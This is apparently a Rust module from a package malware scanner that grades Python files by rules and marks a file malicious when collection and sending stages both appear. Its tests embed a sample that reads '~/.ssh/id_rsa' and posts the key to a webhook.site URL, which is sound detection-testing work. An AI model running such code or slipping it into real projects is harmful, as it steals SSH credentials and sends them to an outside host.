//! Judges what an analysis found by rules, which are data: each is a file in `data/rules/` with a hit and a no-hit.
//!
//! A scan is a reader's help. The sandbox is the border.

mod rule;

use std::collections::BTreeSet;

use serde::Serialize;

use crate::model::{Analysis, Module, Place};
use rule::{Rule, rules};

/// What a package looks like, from the least to the worst.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Verdict {
    /// Nothing was found.
    Clean,
    /// Something is worth a look.
    Notes,
    /// A person has to look at it.
    Suspicious,
    /// Two stages of an attack stand in one file.
    Malicious,
}

/// One hit of a rule.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Hit {
    /// The rule.
    pub rule: &'static str,
    /// How much it matters alone.
    pub verdict: Verdict,
    /// The file.
    pub path: String,
    /// Where in it.
    pub place: Place,
    /// What was found, such as the name that is called.
    pub what: String,
    /// Why it matters.
    pub reason: &'static str,
    /// How it is settled.
    pub how: &'static str,
}

/// What a scan says.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Scan {
    /// The worst of it.
    pub verdict: Verdict,
    /// Every hit, in the order of the files.
    pub hits: Vec<Hit>,
}

/// Hits of one rule in one file that are told.
const MAX_HITS: usize = 20;

/// Judges a package. Files that could not be read are findings of the analysis, and at least notes.
pub fn scan(analysis: &Analysis) -> Scan {
    let mut verdict = if analysis.findings.is_empty() { Verdict::Clean } else { Verdict::Notes };
    let mut hits = Vec::new();
    for module in &analysis.modules {
        let mut stages = BTreeSet::new();
        for rule in rules() {
            let found = matches(rule, module);
            if !found.is_empty() {
                stages.insert(rule.stage.as_str());
                verdict = verdict.max(rule.verdict);
            }
            hits.extend(found);
        }
        // One stage alone has honest uses. What collects and also sends has hardly any.
        if stages.len() > 1 {
            verdict = Verdict::Malicious;
        }
    }
    Scan { verdict, hits }
}

fn matches(rule: &'static Rule, module: &Module) -> Vec<Hit> {
    let hit = |place, what: &str| Hit {
        rule: &rule.id,
        verdict: rule.verdict,
        path: module.path.clone(),
        place,
        what: what.to_owned(),
        reason: &rule.reason,
        how: &rule.how,
    };
    if rule.is_about_calls() {
        let calls = module.calls.iter().filter(|call| rule.hits_call(call));
        return calls.take(MAX_HITS).map(|call| hit(call.place, &call.callee)).collect();
    }
    let uses = module.uses.iter().filter(|used| rule.hits_use(used));
    uses.take(MAX_HITS).map(|used| hit(used.place, &used.what)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Limits, analyze_source};

    fn scanned(code: &str) -> Scan {
        let analysis = analyze_source("main.py", code.as_bytes(), &Limits::default());
        assert_eq!(analysis.findings, [], "{code}");
        scan(&analysis)
    }

    #[test]
    fn every_rule_hits_its_hit_and_nothing_else() {
        for rule in rules() {
            let names = |code: &str| scanned(code).hits.iter().map(|hit| hit.rule).collect::<BTreeSet<_>>();
            assert_eq!(names(&rule.hit).into_iter().collect::<Vec<_>>(), [rule.id.as_str()], "{}", rule.hit);
            assert!(names(&rule.no_hit).is_empty(), "{}: {:?}", rule.id, scanned(&rule.no_hit));
        }
    }

    #[test]
    fn two_stages_in_one_file_are_malicious() {
        let collect = "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";
        assert_eq!(scanned(collect).verdict, Verdict::Suspicious);
        let sent = format!("{collect}import requests\nrequests.post('https://webhook.site/x', data=key)\n");
        let scan = scanned(&sent);
        assert_eq!(scan.verdict, Verdict::Malicious);
        assert!(scan.hits.iter().any(|hit| hit.place.line == 4 && hit.rule == "drop-host"), "{scan:?}");
        assert_eq!(scanned("import json\nprint(json.dumps({}))\n").verdict, Verdict::Clean);
    }

    #[test]
    fn what_cannot_be_read_is_not_clean() {
        let analysis = analyze_source("main.py", b"x = (\n", &Limits::default());
        assert_eq!(scan(&analysis).verdict, Verdict::Notes);
    }
}
